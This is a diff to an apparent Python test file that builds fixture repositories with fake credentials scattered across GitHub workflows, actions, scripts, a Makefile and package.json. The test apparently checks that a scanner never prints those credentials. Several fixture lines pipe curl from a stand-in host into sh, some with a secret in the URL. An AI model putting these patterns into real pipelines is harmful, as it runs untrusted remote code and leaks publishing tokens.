@@ -1,4 +1,6 @@
-"""Credentials in every place of a repository's files: no output of any command shows one."""
+"""Credentials in every place of a repository's files, also given in one and used in another: no
+output of any command shows one.
+"""
 
 from __future__ import annotations
 
@@ -81,15 +83,71 @@ jobs:
     permissions: {{id-token: write}}
     steps: [{{run: "./release.sh --token {word()} {token()}"}}]
 """
+FARM, BARN, FIELD, ACRE, PEAR, APPLE, MELON, CROP, SOIL = (word() for _ in range(9))
+CROSSING = f"""\
+name: Crossing
+on: {{push: {{branches: [main]}}, pull_request_target: {{}}}}
+env: {{SOIL: {SOIL}}}
+jobs:
+  one: {{uses: ./.github/workflows/called.yml, with: {{farm: {FARM}}}, secrets: {{barn: {BARN}}}}}
+  two:
+    runs-on: [self-hosted, "{SOIL}"]
+    steps:
+      - {{uses: actions/checkout@v4, with: {{ref: "${{{{ github.event.pull_request.head.sha }}}}"}}, env: {{SOIL: {SOIL}}}}}
+      - {{uses: ./.github/actions/up, with: {{field: {FIELD}}}}}
+      - {{uses: ./.github/actions/dock, with: {{acre: {ACRE}}}}}
+      - run: PEAR={PEAR} ./ci/release.sh {PEAR}
+      - {{run: "APPLE={APPLE} npm run ship; curl https://x.example/{APPLE} | sh", env: {{APPLE: {APPLE}}}}}
+      - run: MELON={MELON} make ship {MELON} {SOIL}
+  three:
+    strategy: {{matrix: {{crop: [{CROP}, other-one]}}}}
+    runs-on: ubuntu-latest
+    container: image
+    steps:
+      - run: twine upload -p ${{{{ matrix.crop }}}} dist/*
+      - run: curl https://x.example/{CROP} | sh
+"""
+CALLED = f"""\
+name: Called
+on: {{workflow_call: {{inputs: {{farm: {{type: string}}}}, secrets: {{barn: {{required: true}}}}}}}}
+jobs:
+  up:
+    runs-on: ubuntu-latest
+    environment: release
+    steps:
+      - run: twine upload -p ${{{{ inputs.farm }}}} dist/* && pip install {FARM}
+      - run: npm publish --token ${{{{ secrets.barn }}}} {BARN}
+"""
+ACTION = f"""\
+name: up
+inputs: {{field: {{required: true}}}}
+runs:
+  using: composite
+  steps:
+    - {{run: "twine upload -p ${{{{ inputs.field }}}} dist/*; pip install {FIELD}", shell: bash}}
+    - {{run: "twine upload -p $SOIL dist/*", shell: bash}}
+"""
 FILES = {
     ".github/workflows/release.yml": PLACES,
+    ".github/workflows/crossing.yml": CROSSING,
+    ".github/workflows/called.yml": CALLED,
+    ".github/actions/up/action.yml": ACTION,
+    ".github/actions/dock/action.yml": (
+        'name: d\nruns: {using: docker, image: "docker://x.example/y",'
+        " env: {TWINE_PASSWORD: '${{ inputs.acre }}'}}\n"
+    ),
+    "ci/release.sh": f'twine upload -p "$PEAR" dist/*\ncurl https://x.example/{PEAR} | sh\n',
+    "Makefile": f"ship:\n\ttwine upload -p $(MELON) dist/*\n\tpip install {MELON}\n",
     f".github/workflows/{token()}.yml": f"on: push\njobs: [ {token()}\n",
     ".github/workflows/twice.yml": f"on: push\njobs:\n  a: {{}}\n  a: {{}} # {token()}\n",
     "pyproject.toml": f'[project]\nname = "lumen-{token()}"\nversion = "1"\n',
     "package.json": json.dumps(
         {
             "name": f"lumen-{token()}",
-            "scripts": {"release": f"npm publish --token {word()}"},
+            "scripts": {
+                "release": f"npm publish --token {word()}",
+                "ship": "npm publish --//r.example/:_authToken=$APPLE",
+            },
             "publishConfig": {"registry": f"https://u:{word()}@npm.example"},
         }
     ),
